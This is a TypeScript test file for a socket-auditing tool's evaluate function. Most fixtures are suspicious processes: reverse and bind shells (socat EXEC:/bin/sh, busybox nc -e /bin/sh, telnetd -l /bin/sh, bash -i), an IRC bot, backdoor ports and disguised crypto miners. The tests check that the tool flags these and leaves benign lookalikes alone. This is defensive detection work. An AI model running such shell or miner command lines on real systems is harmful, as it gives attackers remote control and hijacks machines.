import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { evaluate } from "../../src/evaluate/evaluate.js";
import { createKnowledge } from "../../src/knowledge/knowledge.js";
import type { ProcessInfo } from "../../src/model/process.js";
import type { Direction, Endpoint, Exposure, Proto, Socket, SocketState } from "../../src/model/socket.js";
import type { Verdict } from "../../src/model/verdict.js";

const knowledge = createKnowledge();

function proc(name: string, exe: string | null = `/usr/bin/${name}`, extra: Partial<ProcessInfo> = {}): ProcessInfo {
  return { pid: 1000, name, exe, exeDeleted: false, cmdline: exe ? [exe] : [], uid: 0, user: "root", containerId: null, netns: 1, ...extra };
}
interface Case {
  proto?: Proto; local: Endpoint; remote?: Endpoint | null; state?: SocketState; direction: Direction; exposure?: Exposure | null;
  process?: ProcessInfo | null; inode?: number;
}
function sock(c: Case): Socket {
  return {
    proto: c.proto ?? "tcp", family: c.local.address.includes(":") ? 6 : 4, local: c.local, remote: c.remote ?? null,
    state: c.state ?? (c.direction === "listening" ? ((c.proto ?? "tcp") === "tcp" ? "LISTEN" : "UNCONN") : "ESTABLISHED"),
    direction: c.direction, exposure: c.exposure ?? (c.direction === "listening" ? "loopback" : null), netns: 1, inode: c.inode ?? 5, uid: 0,
    service: null, process: c.process === undefined ? null : c.process, sharedWith: [], verdict: "unknown", reasons: [], explanation: null,
  };
}
const ep = (address: string, port: number): Endpoint => ({ address, port });
const out = (port: number, p: ProcessInfo | null, proto: Proto = "tcp"): Case => ({ proto, local: ep("192.0.2.10", 40000), remote: ep("198.51.100.7", port), direction: "outbound", process: p });

/** A Monero address (the Monero project's donation address, as in trust-scenarios.test.ts). */
const XMR = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

// [what, socket, expected verdict, rules that must fire, rules that must not fire]
const cases: [string, Case, Verdict, string[], string[]][] = [
  // IRC
  ["a bot connecting out to IRC 6667", out(6667, proc("kworker", "/tmp/.x/kworker")), "suspicious", ["irc-outbound", "writable-dir-exe"], []],
  ["an unknown program connected to IRC 6697 (from a capture)", out(6697, null), "suspicious", ["irc-outbound"], []],
  ["an IRC client (weechat) on 6667: an IRC client on an IRC port", out(6667, proc("weechat")), "expected", ["irc-client"], ["irc-outbound"]],
  ["hexchat on 6697: an IRC client on an IRC port", out(6697, proc("hexchat")), "expected", ["irc-client"], ["irc-outbound"]],
  ["weechat-headless (comm cut to weechat-headles) on 6697: an IRC client", out(6697, proc("weechat-headles", "/usr/bin/weechat-headless", { cmdline: ["weechat-headless", "--daemon"] })), "expected", ["irc-client"], ["irc-outbound"]],
  ["weechat-headless in a capture (the cut name only) on 6697: an IRC client", out(6697, proc("weechat-headles", null)), "expected", ["irc-client"], ["irc-outbound"]],
  ["python3 renamed weechat-headless on 6697: not an IRC client", out(6697, proc("weechat-headles", "/usr/bin/python3.11", { cmdline: ["weechat-headless"] })), "suspicious", ["irc-outbound"], ["irc-client"]],
  ["Cassandra (java) to 7000, the IRC collision: must not fire", out(7000, proc("java")), "unknown", [], ["irc-outbound"]],
  // backdoors
  ["a listener on 31337", { local: ep("0.0.0.0", 31337), direction: "listening", exposure: "all-interfaces", process: proc("x") }, "suspicious", ["backdoor-port"], []],
  ["a reverse shell to Metasploit's 4444", out(4444, proc("bash", "/usr/bin/bash")), "suspicious", ["backdoor-port", "shell-socket", "mining-pool"], []],
  ["exim on 465 (SMTPS collision): must not fire", { local: ep("0.0.0.0", 465), direction: "listening", exposure: "all-interfaces", process: proc("exim4", "/usr/sbin/exim4") }, "expected", ["known-service"], ["backdoor-port"]],
  ["epmd on 4369 (chkrootkit collision): must not fire", { local: ep("127.0.0.1", 4369), direction: "listening", process: proc("epmd") }, "expected", ["known-service"], ["backdoor-port"]],
  ["icinga2 on 5665 (chkrootkit false positive): must not fire", { local: ep("0.0.0.0", 5665), direction: "listening", exposure: "all-interfaces", process: proc("icinga2", "/usr/lib/x86_64-linux-gnu/icinga2/sbin/icinga2") }, "expected", ["known-service"], ["backdoor-port"]],
  ["an unknown owner on 465 (collision): only unknown", { local: ep("0.0.0.0", 465), direction: "listening", exposure: "all-interfaces", process: null }, "unknown", ["backdoor-port"], []],
  ["a mail client sending to 465: must not fire", out(465, proc("thunderbird")), "expected", ["usual-outbound"], ["backdoor-port"]],
  // miners
  ["a miner to a stratum port 3333", out(3333, proc("xmrig", "/var/tmp/.cache/xmrig")), "suspicious", ["mining-pool", "writable-dir-exe"], []],
  ["a browser to 3333: must not fire", out(3333, proc("firefox", "/usr/lib/firefox/firefox")), "expected", ["usual-outbound"], ["mining-pool"]],
  ["adb on 5555 (miner collision): must not fire", out(5555, proc("adb")), "unknown", [], ["mining-pool"]],
  ["an unknown program to 14444: unknown", out(14444, null), "unknown", ["mining-pool"], []],
  // socat: a shell's pipe when an address runs a program or is its own input and output, a port forward when both ends are network ends
  ["socat TCP:HOST:443 EXEC:/bin/sh,pty,stderr (a reverse shell)", out(443, proc("socat", "/usr/bin/socat", { cmdline: ["socat", "TCP:198.51.100.7:443", "EXEC:/bin/sh,pty,stderr,setsid"] })), "suspicious", ["shell-socket"], ["relay"]],
  ["socat - TCP:HOST:443 (a netcat)", out(443, proc("socat", "/usr/bin/socat", { cmdline: ["socat", "-", "TCP:198.51.100.7:443"] })), "suspicious", ["shell-socket"], ["relay"]],
  ["socat -d -d TCP-LISTEN:8080,fork TCP:HOST:443 (a port forward): unknown, not a shell", out(443, proc("socat", "/usr/bin/socat", { cmdline: ["socat", "-d", "-d", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:198.51.100.7:443"] })), "unknown", ["relay"], ["shell-socket"]],
  // miners renamed and copied elsewhere, told by their arguments: xmrig's -o POOL -u WALLET, an option's value in the next argument
  ["xmrig renamed syshelper in /opt, -o pool:443 -u a Monero wallet", out(443, proc("syshelper", "/opt/sys/syshelper", { cmdline: ["syshelper", "-o", "198.51.100.7:443", "-u", XMR, "-k", "--tls"] })), "suspicious", ["miner"], []],
  ["xmrig --user=WALLET.worker", out(443, proc("syshelper", "/opt/sys/syshelper", { cmdline: ["syshelper", "--url=198.51.100.7:443", `--user=${XMR}.rig1`, "--tls"] })), "suspicious", ["miner"], []],
  ["a miner with --algo rx/0 as two arguments", out(80, proc("x", "/opt/sys/x", { cmdline: ["x", "--algo", "rx/0", "-o", "198.51.100.7:80"] })), "suspicious", ["miner"], []],
  ["a miner with -a rx/0 as two arguments", out(80, proc("x", "/opt/sys/x", { cmdline: ["x", "-a", "rx/0"] })), "suspicious", ["miner"], []],
  ["an Ethereum miner with -u 0x… (T-Rex, lolMiner)", out(443, proc("x", "/opt/sys/x", { cmdline: ["x", "-a", "etchash", "-o", "198.51.100.7:443", "-u", "0x1f9090aaE28b8a3dCeaDf281B0F12828e676c326.rig"] })), "suspicious", ["miner"], []],
  ["a Stratum V2 pool URI (stratum2+tcp)", out(443, proc("x", "/opt/sys/x", { cmdline: ["x", "-o", "stratum2+tcp://198.51.100.7:443"] })), "suspicious", ["miner"], []],
  ["a program with -o FILE -u USER and -a all (benign nearest): not a miner", out(443, proc("curl", "/usr/bin/curl", { cmdline: ["curl", "-o", "out.txt", "-u", "admin:secret", "-a", "all", "https://198.51.100.7/"] })), "expected", ["usual-outbound"], ["miner"]],
  // process integrity
  ["a deleted executable from /tmp", { local: ep("127.0.0.1", 50001), direction: "listening", process: proc("updater", "/tmp/x/updater", { exeDeleted: true }) }, "suspicious", ["deleted-exe", "writable-dir-exe"], []],
  ["a system daemon replaced by an upgrade: unknown, not suspicious", { local: ep("0.0.0.0", 22), direction: "listening", exposure: "all-interfaces", process: proc("sshd", "/usr/sbin/sshd", { exeDeleted: true }) }, "unknown", ["deleted-exe", "known-service"], []],
  ["a program posing as a kernel thread", { local: ep("0.0.0.0", 8081), direction: "listening", exposure: "all-interfaces", process: proc("kworker/0:2", "/usr/local/bin/k", { cmdline: ["[kworker/0:2]"] }) }, "suspicious", ["kernel-thread-name"], []],
  ["nc listening (bind shell)", { local: ep("0.0.0.0", 9001), direction: "listening", exposure: "all-interfaces", process: proc("nc", "/usr/bin/nc.openbsd") }, "suspicious", ["shell-socket"], []],
  ["python -c with a socket (reverse shell one-liner)", out(9001, proc("python3", "/usr/bin/python3.11", { cmdline: ["python3", "-c", "import socket,os,pty;..."] })), "suspicious", ["shell-socket"], []],
  ["python running a script file: not a shell", out(8443, proc("python3", "/usr/bin/python3.11", { cmdline: ["python3", "/opt/app/server.py"] })), "unknown", [], ["shell-socket"]],
  // owners and exposure
  ["sshd on 22 (a server)", { local: ep("0.0.0.0", 22), direction: "listening", exposure: "all-interfaces", process: proc("sshd", "/usr/sbin/sshd") }, "expected", ["known-service"], ["unexpected-owner", "exposed-service"]],
  ["22 held by something that is not sshd", { local: ep("0.0.0.0", 22), direction: "listening", exposure: "all-interfaces", process: proc("python3", "/usr/bin/python3", { cmdline: ["python3", "/opt/x/fake-ssh.py"] }) }, "unknown", ["unexpected-owner"], ["known-service"]],
  ["cupsd on loopback 631", { local: ep("127.0.0.1", 631), direction: "listening", process: proc("cupsd", "/usr/sbin/cupsd") }, "expected", ["known-service"], []],
  ["cupsd on all interfaces: worth a look", { local: ep("0.0.0.0", 631), direction: "listening", exposure: "all-interfaces", process: proc("cupsd", "/usr/sbin/cupsd") }, "unknown", ["exposed-service"], ["known-service"]],
  ["cups-browsed on UDP 631 (CVE-2024-47176)", { proto: "udp", local: ep("0.0.0.0", 631), direction: "listening", exposure: "all-interfaces", process: proc("cups-browsed", "/usr/sbin/cups-browsed") }, "suspicious", ["cups-browsed"], []],
  ["redis open to the network", { local: ep("0.0.0.0", 6379), direction: "listening", exposure: "all-interfaces", process: proc("redis-server") }, "unknown", ["exposed-service"], []],
  ["redis on loopback", { local: ep("127.0.0.1", 6379), direction: "listening", process: proc("redis-server") }, "expected", ["known-service"], ["exposed-service"]],
  ["Docker's API on all interfaces", { local: ep("::", 2375), direction: "listening", exposure: "all-interfaces", process: proc("dockerd") }, "unknown", ["exposed-service"], []],
  ["an unowned listener seen as root", { local: ep("0.0.0.0", 2024), direction: "listening", exposure: "all-interfaces", process: null }, "unknown", ["unowned-listener"], []],
  ["the kernel's NFS server without an owner: no unowned-listener", { local: ep("0.0.0.0", 2049), direction: "listening", exposure: "all-interfaces", process: null }, "unknown", [], ["unowned-listener"]],
  // the default desktop
  ["the DHCP client on 68", { proto: "udp", local: ep("0.0.0.0", 68), direction: "listening", exposure: "all-interfaces", process: proc("dhclient", "/usr/sbin/dhclient") }, "expected", ["known-service"], []],
  ["Avahi on 5353", { proto: "udp", local: ep("0.0.0.0", 5353), direction: "listening", exposure: "all-interfaces", process: proc("avahi-daemon", "/usr/sbin/avahi-daemon") }, "expected", ["known-service"], []],
  ["Avahi's random UDP port (the seed's 38142)", { proto: "udp", local: ep("0.0.0.0", 38142), direction: "listening", exposure: "all-interfaces", process: proc("avahi-daemon", "/usr/sbin/avahi-daemon") }, "expected", ["random-udp"], []],
  ["systemd-resolved's stub on 127.0.0.53:53", { proto: "udp", local: ep("127.0.0.53", 53), direction: "listening", process: proc("systemd-resolve", "/usr/lib/systemd/systemd-resolved") }, "expected", ["known-service"], []],
  ["chronyd's command port 323", { proto: "udp", local: ep("127.0.0.1", 323), direction: "listening", process: proc("chronyd", "/usr/sbin/chronyd") }, "expected", ["known-service"], []],
  ["a browser on 443", out(443, proc("firefox", "/usr/lib/firefox/firefox")), "expected", ["usual-outbound"], []],
  ["a DNS lookup", out(53, proc("systemd-resolve"), "udp"), "expected", ["usual-outbound"], []],
  ["NTP", out(123, proc("chronyd"), "udp"), "expected", ["usual-outbound"], []],
  ["an unknown high port, nothing explains it", { proto: "udp", local: ep("0.0.0.0", 38142), direction: "listening", exposure: "all-interfaces", process: proc("mystery", "/opt/m/mystery") }, "unknown", ["unexplained"], []],
  ["a leftover TIME_WAIT to a 'backdoor' port inside this computer: must not fire", { local: ep("127.0.0.1", 38409), remote: ep("127.0.0.1", 60922), state: "TIME_WAIT", direction: "outbound", process: null, inode: 0 }, "expected", ["local-traffic"], ["backdoor-port"]],
  // CLOSE_WAIT is shutting down too (SHUTDOWN_STATES), though never an orphan.
  ["a CLOSE_WAIT to a 'backdoor' port inside this computer, owner unseen: must not fire", { local: ep("127.0.0.1", 38410), remote: ep("127.0.0.1", 60922), state: "CLOSE_WAIT", direction: "outbound", process: null, inode: 9 }, "expected", ["local-traffic"], ["backdoor-port"]],
  ["an ESTABLISHED connection to a 'backdoor' port inside this computer, owner unseen: fires", { local: ep("127.0.0.1", 38411), remote: ep("127.0.0.1", 60922), direction: "outbound", process: null }, "suspicious", ["backdoor-port"], ["local-traffic"]],
];

// Shells, netcats and interpreters judged by their grammar (src/evaluate/command-line.ts): [what, argv, exe, socket, verdict, rules that fire, rules that must not, message]
const reverse = (p: ProcessInfo): Case => out(9001, p);
const serving = (port: number, p: ProcessInfo): Case => ({ local: ep("0.0.0.0", port), direction: "listening", exposure: "all-interfaces", process: p });
const run = (argv: string[], exe: string, name = argv[0]?.replace(/^.*\//, "") ?? "?") => proc(name, exe, { cmdline: argv });
const grammarCases: [string, Case, Verdict, string[], string[], RegExp][] = [
  ["python3 -Ic (combined flags) connected out", reverse(run(["python3", "-Ic", "import socket,os,pty;..."], "/usr/bin/python3.11")), "suspicious", ["shell-socket"], [],
    /^python3 \(pid 1000, \/usr\/bin\/python3\.11\) runs code given on its command line \(-Ic: -c inside a cluster\) and holds a network socket/],
  ["curl … | python3 (no script: the program comes from standard input)", reverse(run(["python3"], "/usr/bin/python3.11")), "suspicious", ["shell-socket"], [],
    /reads its program from standard input \(python3 with no script: from a pipe, a socket or a terminal\)/],
  ["python3 - (the program from standard input)", reverse(run(["python3", "-"], "/usr/bin/python3.11")), "suspicious", ["shell-socket"], [], /reads its program from standard input \(python3 -\)/],
  ["perl -le", reverse(run(["perl", "-le", "use Socket;..."], "/usr/bin/perl")), "suspicious", ["shell-socket"], [], /\(-le: -e inside a cluster\)/],
  ["ruby -rsocket -e", reverse(run(["ruby", "-rsocket", "-e", "TCPSocket.open(...)"], "/usr/bin/ruby3.1")), "suspicious", ["shell-socket"], [], /\(-e\) and holds a network socket/],
  ["pwsh -enc (abbreviated -EncodedCommand)", reverse(run(["pwsh", "-nop", "-enc", "SQBFAFgA"], "/opt/microsoft/powershell/7/pwsh")), "suspicious", ["shell-socket"], [], /\(-enc: short for -EncodedCommand\)/],
  ["gawk with /inet/tcp", reverse(run(["gawk", "BEGIN {s = \"/inet/tcp/0/10.0.0.1/9001\"}"], "/usr/bin/gawk")), "suspicious", ["shell-socket"], [], /\(its program is its first argument\)/],
  ["bash -i (bash -i >& /dev/tcp/…)", reverse(run(["bash", "-i"], "/usr/bin/bash")), "suspicious", ["shell-socket"], [], /is an interactive shell \(-i\) holding a network socket: the classic reverse shell/],
  ["busybox sh", reverse(run(["busybox", "sh"], "/bin/busybox")), "suspicious", ["shell-socket"], [], /\(busybox sh\) holding a network socket/],
  ["busybox nc -e /bin/sh", reverse(run(["busybox", "nc", "-e", "/bin/sh", "198.51.100.7", "9001"], "/bin/busybox")), "suspicious", ["shell-socket"], [],
    /is a netcat-like tool holding a network socket, set to run \/bin\/sh for the other end \(-e\)/],
  ["busybox telnetd -l /bin/sh (a shell for anyone, no password)", serving(1337, run(["busybox", "telnetd", "-l", "/bin/sh", "-p", "1337"], "/bin/busybox")), "suspicious", ["shell-socket"], [],
    /serves \/bin\/sh to whoever connects \(-l\), with no login: a bind shell/],
  ["sh -c '…' holding a socket itself (kept suspicious: a wrapper that ends in exec is never seen as sh)", reverse(run(["sh", "-c", "sleep 1; cat"], "/usr/bin/dash")), "suspicious", ["shell-socket"], [],
    /is a shell running the command given with -c holding a network socket/],
  ["a bash script holding a socket: still a shell", reverse(run(["bash", "/opt/app/run.sh"], "/usr/bin/bash")), "suspicious", ["shell-socket"], [], /is a shell running \/opt\/app\/run\.sh holding/],
  // must not be called reverse shells
  ["node -r dotenv/config server.js (-r is require)", serving(3000, run(["node", "-r", "dotenv/config", "server.js"], "/usr/bin/node")), "unknown", [], ["shell-socket", "ad-hoc-server"], /./],
  ["node --require ts-node/register app.ts", reverse(run(["node", "--require", "ts-node/register", "app.ts"], "/usr/bin/node")), "unknown", [], ["shell-socket"], /./],
  ["busybox httpd -f -p 8080 (a web server, not a shell)", serving(8080, run(["busybox", "httpd", "-f", "-p", "8080"], "/bin/busybox")), "unknown", [], ["shell-socket", "ad-hoc-server"], /./],
  ["busybox udhcpc on 68 (the DHCP client)", { proto: "udp", local: ep("0.0.0.0", 68), direction: "listening", exposure: "all-interfaces", process: run(["udhcpc", "-i", "eth0"], "/bin/busybox") }, "expected", ["known-service"], ["shell-socket"], /udhcpc is the usual owner of 68\/udp/],
  ["a uvicorn worker (multiprocessing spawn: python3 -c with the library's own one-liner)", serving(8002, run(["/usr/bin/python3", "-c", "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)", "--multiprocessing-fork"], "/usr/bin/python3.11")), "unknown", [], ["shell-socket"], /./],
  ["python3 running a script", reverse(run(["/usr/bin/python3", "-u", "/opt/app/main.py"], "/usr/bin/python3.11")), "unknown", [], ["shell-socket"], /./],
  ["gunicorn's rewritten title: its arguments are gone, nothing to judge", serving(8001, run(["gunicorn: master [app:app]"], "/usr/bin/python3.11", "gunicorn")), "unknown", [], ["shell-socket"], /./],
  ["python3 -m http.server 8000: a quick file server, at most unknown", serving(8000, run(["python3", "-m", "http.server", "8000"], "/usr/bin/python3.11")), "unknown", ["ad-hoc-server"], ["shell-socket"],
    /^A quick file server started from the command line \(python3 -m http\.server 8000\): it shares a folder with anyone who can reach it$/],
  ["ruby -run -e httpd . -p 8000: un.rb's file server, not a reverse shell", serving(8000, run(["ruby", "-run", "-e", "httpd", ".", "-p", "8000"], "/usr/bin/ruby3.1")), "unknown", ["ad-hoc-server"], ["shell-socket"],
    /^A quick file server started from the command line \(ruby -run -e httpd \. -p 8000\): it shares a folder/],
  ["php -S 0.0.0.0:8080", serving(8080, run(["php", "-S", "0.0.0.0:8080"], "/usr/bin/php8.2")), "unknown", ["ad-hoc-server"], ["shell-socket"], /^A quick web server .*\(php -S 0\.0\.0\.0:8080\): it serves a folder, and runs the PHP files in it/],
];

describe("evaluate", () => {
  for (const [what, c, verdict, fire, quiet, message] of grammarCases) {
    it(`evaluate: ${what} → ${verdict}`, () => {
      const s = sock(c);
      evaluate([s], { knowledge, mode: "live-root", origin: "live" });
      const rules = s.reasons.map((r) => r.rule);
      assert.equal(s.verdict, verdict, `reasons: ${JSON.stringify(s.reasons)}`);
      for (const r of fire) assert.ok(rules.includes(r), `expected rule ${r} in ${rules.join(", ")}`);
      for (const r of quiet) assert.ok(!rules.includes(r), `rule ${r} must not fire: ${JSON.stringify(s.reasons)}`);
      const main = s.reasons.find((r) => r.rule === fire[0]) ?? s.reasons[0];
      assert.match(main?.message ?? "", message);
    });
  }

  for (const [what, c, verdict, fire, quiet] of cases) {
    it(`evaluate: ${what} → ${verdict}`, () => {
      const s = sock(c);
      evaluate([s], { knowledge, mode: "live-root", origin: "live" });
      const rules = s.reasons.map((r) => r.rule);
      assert.equal(s.verdict, verdict, `reasons: ${JSON.stringify(s.reasons)}`);
      for (const r of fire) assert.ok(rules.includes(r), `expected rule ${r} in ${rules.join(", ")}`);
      for (const r of quiet) assert.ok(!rules.includes(r), `rule ${r} must not fire: ${JSON.stringify(s.reasons)}`);
      assert.ok(s.explanation && s.explanation.length > 10);
      for (const r of s.reasons) assert.ok(r.message.length > 10);
    });
  }

  it("evaluate gives connections to a local listener that listener's verdict", () => {
    const listener = sock({ local: ep("127.0.0.1", 31337), direction: "listening", process: proc("x") });
    const inbound = sock({ local: ep("127.0.0.1", 31337), remote: ep("127.0.0.1", 50000), direction: "inbound", process: proc("x") });
    evaluate([inbound, listener], { knowledge, mode: "live-root", origin: "live" });
    assert.equal(listener.verdict, "suspicious");
    assert.equal(inbound.verdict, "suspicious");
  });

  it("evaluate explains an unexplained socket with how to find its owner, per origin", () => {
    const s = sock({ proto: "udp", local: ep("0.0.0.0", 38142), direction: "listening", exposure: "all-interfaces", process: null });
    evaluate([s], { knowledge, mode: "capture", origin: "linux-capture" });
    assert.equal(s.verdict, "unknown");
    assert.match(s.explanation!, /sudo lsof -i UDP:38142/);
    evaluate([s], { knowledge, mode: "capture", origin: "windows-capture" });
    assert.match(s.explanation!, /netstat -abno/);
  });

  it("evaluate says a finished connection (no inode: TIME_WAIT, orphans) has no owner to look for, and judges like ones once", () => {
    const tw = (local: number, remote: number) => sock({ local: ep("192.0.2.10", local), remote: ep("198.51.100.7", remote), state: "TIME_WAIT", direction: "outbound", process: null, inode: 0 });
    const [a, b, https] = [tw(40001, 44119), tw(40002, 44119), tw(40003, 443)];
    evaluate([a, b, https], { knowledge, mode: "live-root", origin: "live" });
    assert.equal(a.explanation, "A program was connected to port 44119 of the other computer, a port with no well-known service; the connection is closed (TIME_WAIT) and the kernel keeps it a little while: no program holds it any more");
    assert.equal(b.explanation, a.explanation);
    assert.equal(b.reasons, a.reasons); // one judgement for both: nothing in it names the local port
    assert.match(https.explanation!, /^A program was connected to port 443 of the other computer \(https\); the connection is closed/);
    // Still held by a program (an inode, or CLOSE_WAIT): how to find it, with the port to look for.
    const held = sock({ local: ep("192.0.2.10", 40004), remote: ep("198.51.100.7", 44119), state: "FIN_WAIT2", direction: "outbound", process: null, inode: 77 });
    evaluate([held], { knowledge, mode: "live-root", origin: "live" });
    assert.match(held.explanation!, /sudo lsof -i TCP:40004/);
    // CLOSE_WAIT: only the peer has closed, so a program holds it even with inode 0 as a capture may print it (ORPHAN_STATES has no CLOSE_WAIT).
    const closeWait = sock({ local: ep("192.0.2.10", 40005), remote: ep("198.51.100.7", 44119), state: "CLOSE_WAIT", direction: "outbound", process: null, inode: 0 });
    evaluate([closeWait], { knowledge, mode: "live-root", origin: "live" });
    assert.match(closeWait.explanation!, /sudo lsof -i TCP:40005/);
    assert.doesNotMatch(closeWait.explanation!, /no program holds it/);
    const inbound = sock({ local: ep("192.0.2.10", 8088), remote: ep("198.51.100.7", 50000), state: "TIME_WAIT", direction: "inbound", process: null, inode: 0 });
    evaluate([inbound], { knowledge, mode: "live-root", origin: "live" });
    assert.match(inbound.explanation!, /^A connection to port 8088\/tcp of this computer; the connection is closed \(TIME_WAIT\).*no program holds it any more$/);
  });

  it("evaluate calls a default service from a capture without owners expected (the seed's localhost:ipp)", () => {
    const s = sock({ local: ep("127.0.0.1", 631), direction: "listening", process: null });
    evaluate([s], { knowledge, mode: "capture", origin: "linux-capture" });
    assert.equal(s.verdict, "expected");
    assert.match(s.explanation!, /CUPS/);
  });
});
